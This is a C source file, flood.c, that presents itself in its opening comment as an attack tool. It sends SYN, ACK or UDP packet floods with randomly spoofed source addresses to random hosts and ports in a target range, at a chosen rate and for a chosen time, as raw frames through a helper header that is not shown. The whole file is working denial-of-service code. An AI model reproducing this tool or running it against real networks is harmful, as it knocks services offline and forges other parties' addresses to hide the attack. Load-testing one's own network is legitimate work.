/*
 * flood.c - an attack: packets from random sources to random destinations of a range
 *
 *     flood INTERFACE GATEWAY syn|ack|udp SOURCE/LENGTH TARGET/LENGTH PORT[-PORT] RATE SECONDS
 *
 * IP packets of 64 bytes, as ready frames (frames.h), to the gateway's hardware address
 * (aa:bb:...). Every packet has a random address of each prefix, a random destination port of the
 * range, and a random source port. No more than RATE packets a second. Answers are nobody's.
 */
#include "frames.h"

#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>

struct range {
    uint32_t first, size; /* of addresses, host byte order, or of ports */
};

static struct range sources, targets, ports;

/* xorshift64: fast, and good enough to look random to a table. */
static uint32_t random_number(uint32_t below)
{
    static uint64_t state = UINT64_C(0x9e3779b97f4a7c15);

    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(((state >> 32) * below) >> 32);
}

static uint32_t one_of(struct range range)
{
    return range.first + random_number(range.size);
}

static struct range parse_prefix(char *text)
{
    char *slash = strchr(text, '/');
    unsigned long length = 32;

    if (slash != NULL) {
        *slash = '\0';
        length = argument_number(slash + 1, 8, 32);
    }
    return (struct range){ntohl(socket_address(text, 0).sin_addr.s_addr), UINT32_C(1)
                                                                              << (32 - length)};
}

static struct range parse_ports(char *text)
{
    char *dash = strchr(text, '-');
    unsigned long first, last;

    if (dash != NULL)
        *dash = '\0';
    first = argument_number(text, 1, 65535);
    last = dash != NULL ? argument_number(dash + 1, first, 65535) : first;
    return (struct range){(uint32_t)first, (uint32_t)(last - first + 1)};
}

static struct sockaddr_in endpoint(uint32_t address, uint32_t port)
{
    return (struct sockaddr_in){.sin_family = AF_INET,
                                .sin_port = htons((uint16_t)port),
                                .sin_addr.s_addr = htonl(address)};
}

static void prepare(struct frame *frames, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        if (frames[i].ip.protocol == IPPROTO_TCP)
            frames[i].tcp.seq = random_number(UINT32_MAX);
        frame_address(&frames[i], endpoint(one_of(sources), 1024 + random_number(64512)),
                      endpoint(one_of(targets), one_of(ports)));
    }
}

static void fill(struct frame *frame, const char *gateway, const char *kind)
{
    const bool is_syn = strcmp(kind, "syn") == 0, is_ack = strcmp(kind, "ack") == 0;

    if (!is_syn && !is_ack && strcmp(kind, "udp") != 0)
        die("'%s': expected syn, ack or udp", kind);
    frame_fill(frame, gateway, is_syn || is_ack ? IPPROTO_TCP : IPPROTO_UDP);
    if (is_syn || is_ack)
        frame->tcp.window = htons(65535);
    if (is_syn)
        frame->tcp.syn = 1;
    if (is_ack)
        frame->tcp.ack = 1;
}

int main(int argc, char **argv)
{
    static struct frame frames[FRAMES_BATCH];

    if (argc != 9)
        die("usage: flood INTERFACE GATEWAY syn|ack|udp SOURCE/LENGTH TARGET/LENGTH PORT[-PORT] "
            "RATE SECONDS");
    sources = parse_prefix(argv[4]);
    targets = parse_prefix(argv[5]);
    ports = parse_ports(argv[6]);
    for (size_t i = 0; i < FRAMES_BATCH; i++)
        fill(&frames[i], argv[2], argv[3]);
    stop_on_signals();
    frames_send(frames_open(argv[1]), frames, FRAMES_BATCH, argument_seconds(argv[8]),
                argument_number(argv[7], 1, 100000000), prepare);
    return EXIT_SUCCESS;
}
